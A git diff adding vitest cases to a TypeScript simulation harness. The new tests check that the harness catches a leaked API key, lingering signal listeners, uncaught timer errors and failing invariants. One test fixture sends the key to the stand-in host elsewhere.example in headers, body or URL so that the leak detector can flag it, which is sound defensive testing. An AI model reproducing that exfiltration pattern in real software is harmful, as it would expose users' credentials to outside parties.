@@ -4,7 +4,7 @@ import promises from "node:fs/promises";
 import perfHooks from "node:perf_hooks";
 import timersPromises from "node:timers/promises";
 import OpenAI from "openai";
-import { describe, expect, it } from "vitest";
+import { describe, expect, it, onTestFinished } from "vitest";
 import { inWorld } from "../testing/in-world.js";
 import type { SimulatedFaults } from "./fault-plan.js";
 import { replay, simulate } from "./simulate.js";
@@ -101,10 +101,21 @@ describe("a simulation", () => {
         await world.intend("picture", () => Promise.reject(error)).catch(() => {});
       },
     ],
+    ...["headers", "body", "address"].map((where): [string, (world: World) => Promise<void>] => [
+      `in the ${where} of what is sent to somebody else`,
+      async (world) => {
+        const close = world.serve("https://elsewhere.example", () => new Response(null, { status: 204 }));
+        const address = `https://elsewhere.example/${where === "address" ? world.apiKey : ""}`;
+        const headers: Record<string, string> = where === "headers" ? { "x-key": world.apiKey } : {};
+        const body = where === "body" ? JSON.stringify({ key: world.apiKey }) : "{}";
+        await fetch(address, { method: "POST", headers, body }).catch(() => {});
+        close();
+      },
+    ]),
     ["on the disk", ({ disk, apiKey }) => promises.writeFile(disk.path("file"), `{"key":"${apiKey}"}`)],
   ])("finds the key %s, and does not tell it", async (_where, app) => {
     const { failure } = await simulate({ app, runs: 1 });
-    expect(failure?.violation).toMatch(/^the key stays secret: The key stands in/);
+    expect(failure?.violation).toMatch(/^the key stays secret: The key (stands in|was sent to)/);
     expect(failure?.violation).not.toContain("sk-emulator");
   });
 
@@ -128,6 +139,34 @@ describe("a simulation", () => {
     expect((await simulate({ app, runs: 1, faults: CALM })).failure?.violation).toMatch(found);
   });
 
+  it("finds who still listens in the end, to this process or for the death of one of the world", async () => {
+    const nobody = () => {};
+    onTestFinished(() => void process.off("SIGUSR2", nobody));
+    const violationOf = async (main: (service: { signal: AbortSignal }) => Promise<void>) =>
+      (
+        await simulate({
+          runs: 1,
+          maxFaults: 0,
+          async app(world) {
+            await world.service("worker", main).ended;
+          },
+        })
+      ).failure?.violation;
+    expect(
+      await violationOf(async ({ signal }) => {
+        signal.addEventListener("abort", nobody);
+        signal.removeEventListener("abort", nobody);
+        process.on("SIGUSR2", nobody).off("SIGUSR2", nobody);
+      }),
+    ).toBeUndefined();
+    expect(await violationOf(async ({ signal }) => signal.addEventListener("abort", nobody))).toBe(
+      "nobody listens any more: In the end there still are listeners: 1 for the end of worker",
+    );
+    expect(await violationOf(async () => void process.on("SIGUSR2", nobody))).toBe(
+      "nobody listens any more: In the end there still are listeners: 1 for SIGUSR2 of the process",
+    );
+  });
+
   it("finds that a scenario fails, waits for nothing, never ends, or leaves a rejection to nobody", async () => {
     const violationOf = async (app: (world: World) => Promise<void>) =>
       (await simulate({ app, runs: 1, maxVirtualMs: 60_000 })).failure?.violation;
@@ -148,6 +187,25 @@ describe("a simulation", () => {
         await world.sleep(1_000);
       }),
     ).toMatch(/^a rejection that nobody handles: Error: nobody's/);
+    expect(
+      await violationOf(async (world) => {
+        setTimeout(() => {
+          throw new Error("in a timer");
+        }, 500);
+        await world.sleep(1_000);
+      }),
+    ).toMatch(/^an error that nobody catches: Error: in a timer/);
+  });
+
+  it("finds that an invariant cannot be looked at", async () => {
+    const invariants = {
+      "it can be looked at": () => {
+        throw new Error("blind");
+      },
+    };
+    const { failure } = await simulate({ app: (world) => world.sleep(1_000), runs: 1, invariants });
+    expect(failure?.violation).toMatch(/^it can be looked at: Error: blind/);
+    expect((await simulate({ app: (world) => world.sleep(1_000), runs: 1 })).failure).toBeUndefined();
   });
 
   it("holds what an application wants to hold beside, and leaves out what it does not", async () => {
